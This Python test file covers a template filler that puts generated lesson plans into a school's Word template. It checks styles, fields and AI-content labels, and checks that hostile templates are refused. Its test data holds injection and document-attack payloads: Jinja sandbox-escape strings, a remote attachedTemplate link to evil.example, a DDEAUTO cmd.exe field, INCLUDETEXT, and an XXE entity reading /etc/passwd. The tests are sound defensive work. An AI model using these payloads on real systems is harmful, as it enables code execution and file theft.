"""A school's template: filled in its own styles; what is broken or hostile is refused by name."""

import io
import zipfile
from dataclasses import replace
from functools import cache

import docx
import pytest
from docx.shared import Cm, Pt, RGBColor

from assistant.documents.export import Content, export
from assistant.documents.formulas.omml import M
from assistant.documents.template import (
    MOST_BYTES,
    TemplateFieldBroken,
    TemplateUnusable,
    fill_template,
)
from corpora.parsing.problems import FileDamaged, FileHasMacros, FileUnsafeXml
from corpora.problem import Problem
from guardrails.label import aigc
from guardrails.labels import read_label
from tests.assistant.documents import samples

PLAN = replace(samples.PLAN, blocks=samples.BLOCKS[:9])


@cache
def school(*paragraphs: str) -> bytes:
    """A school's form: a head in red, a table with fields, then the paragraphs."""
    document = docx.Document()
    document.styles["Heading 1"].font.color.rgb = RGBColor(0x80, 0, 0)
    document.sections[0].header.paragraphs[0].text = "某某学校　{{ title }}"
    head = document.add_paragraph()
    for piece in ("{{ ti", "tle", " }}"):  # Word cuts words into runs as it likes
        run = head.add_run(piece)
        run.font.size = Pt(22)
    table = document.add_table(2, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "年级", "{{ 年级 }}（{{学科}}）"
    table.cell(1, 0).text, table.cell(1, 1).text = "目标", "{{ 教学目标 }}"
    table.columns[1].width = Cm(10)
    for text in paragraphs:
        document.add_paragraph(text)
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def changed(data: bytes, name: str, old: str, new: str) -> bytes:
    """The package with one part changed or, where `old` is empty, added."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(target, "w") as made:
        for entry in source.namelist():
            content = source.read(entry)
            if entry == name:
                assert old.encode() in content
                content = content.replace(old.encode(), new.encode(), 1)
            made.writestr(entry, content)
        if not old:
            made.writestr(name, new)
    return target.getvalue()


def test_fields_sections_and_body_are_filled() -> None:
    document = docx.Document(io.BytesIO(fill_template(school("{{ body }}"), PLAN)))
    assert document.paragraphs[0].text == PLAN.title
    assert document.paragraphs[0].runs[0].font.size == Pt(22)
    assert document.sections[0].header.paragraphs[0].text == f"某某学校　{PLAN.title}"
    table = document.tables[0]
    assert table.cell(0, 1).text == "八年级下册（数学）"
    goals = table.cell(1, 1)
    assert "割补法求出三个正方形的面积" in "".join(goals._tc.itertext())
    assert next(goals._tc.iter(f"{{{M}}}oMath"), None) is not None
    assert "{{" not in "".join(document.element.body.itertext())
    assert any(each.text == "教学过程" and each.style.name == "Heading 1" for each in document.paragraphs)


def test_the_template_keeps_its_styles() -> None:
    document = docx.Document(io.BytesIO(fill_template(school("{{ body }}"), PLAN)))
    assert document.styles["Heading 1"].font.color.rgb == RGBColor(0x80, 0, 0)
    assert "Xingtan Table" in [style.name for style in document.styles]


def test_a_filled_template_is_labelled() -> None:
    mark = aigc("01JD", "杏坛中学")
    made = export(Content(PLAN), "docx", mark, template=school("{{ body }}"))
    assert read_label(made.data, "docx").aigc == mark


@pytest.mark.parametrize(
    ("text", "field", "reason"),
    [
        ("{{ titel }}", "{{ titel }}", "unknown"),
        ("{{ title.__class__ }}", "{{ title.__class__ }}", "name"),
        ("{{ ''.__class__.__mro__[1] }}", None, "name"),
        ("{{ config|attr('x') }}", None, "name"),
        ("{{ cycler() if 1 }}", None, "name"),
        ("{{ title", "{{ title", "unfinished"),
        ("title }}", "}}", "unfinished"),
        ("{% for x in y %}", "{% for x in y %}", "unfinished"),
        ("{# note #}", "{# note #}", "unfinished"),
        ("前 {{ body }} 后", "body", "alone"),
        ("{{}}", "{{}}", "name"),
    ],
)
def test_a_broken_field_is_named(text: str, field: str | None, reason: str) -> None:
    with pytest.raises(TemplateFieldBroken) as caught:
        fill_template(school(text), PLAN)
    assert caught.value.details["reason"] == reason
    assert field is None or caught.value.details["field"] == field
    assert "教学目标" in str(caught.value.details["known"])


def test_blocks_do_not_go_into_a_header() -> None:
    with pytest.raises(TemplateFieldBroken):
        fill_template(_header("{{ body }}"), PLAN)


def _header(text: str) -> bytes:
    document = docx.Document(io.BytesIO(school()))
    document.sections[0].header.paragraphs[0].text = text
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def test_a_file_of_60_mb_is_refused_before_it_is_opened() -> None:
    with pytest.raises(TemplateUnusable) as caught:
        fill_template(b"PK\x03\x04" + bytes(60 * 2**20), PLAN)
    assert caught.value.details["reason"] == "size"
    assert MOST_BYTES < 60 * 2**20


def test_what_is_no_word_file() -> None:
    with pytest.raises(FileDamaged):
        fill_template(b"not a zip", PLAN)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made:
        made.writestr("a.txt", "x")
    with pytest.raises(TemplateUnusable, match="kind"):
        fill_template(target.getvalue(), PLAN)
    plain = io.BytesIO()
    docx.Document().save(plain)
    with pytest.raises(TemplateUnusable, match="no-fields"):
        fill_template(plain.getvalue(), PLAN)


_END = "</w:body>"
_REL = "</Relationships>"
_RELS = "word/_rels/document.xml.rels"


@pytest.mark.parametrize(
    ("part", "old", "new", "refusal"),
    [
        ("word/vbaProject.bin", "", "x", FileHasMacros),
        ("word/embeddings/oleObject1.bin", "", "x", TemplateUnusable),
        (
            _RELS,
            _REL,
            '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>' + _REL,
            TemplateUnusable,
        ),
        (
            "word/document.xml",
            _END,
            '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe "/></w:p>' + _END,
            TemplateUnusable,
        ),
        (
            "word/document.xml",
            _END,
            "<w:p><w:r><w:instrText> INCLUDETEXT &quot;c:\\x&quot; </w:instrText></w:r></w:p>" + _END,
            TemplateUnusable,
        ),
        ("word/document.xml", _END, '<w:altChunk r:id="rId1"/>' + _END, TemplateUnusable),
        (
            "word/document.xml",
            "?>",
            '?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
            FileUnsafeXml,
        ),
    ],
)
def test_hostile_templates(part: str, old: str, new: str, refusal: type[Problem]) -> None:
    with pytest.raises(refusal):
        fill_template(changed(school("{{ body }}"), part, old, new), PLAN)


def test_values_are_not_placeholders_again() -> None:
    paper = replace(PLAN, title="{{ body }}")
    document = docx.Document(io.BytesIO(fill_template(school(), paper)))
    assert document.paragraphs[0].text == "{{ body }}"
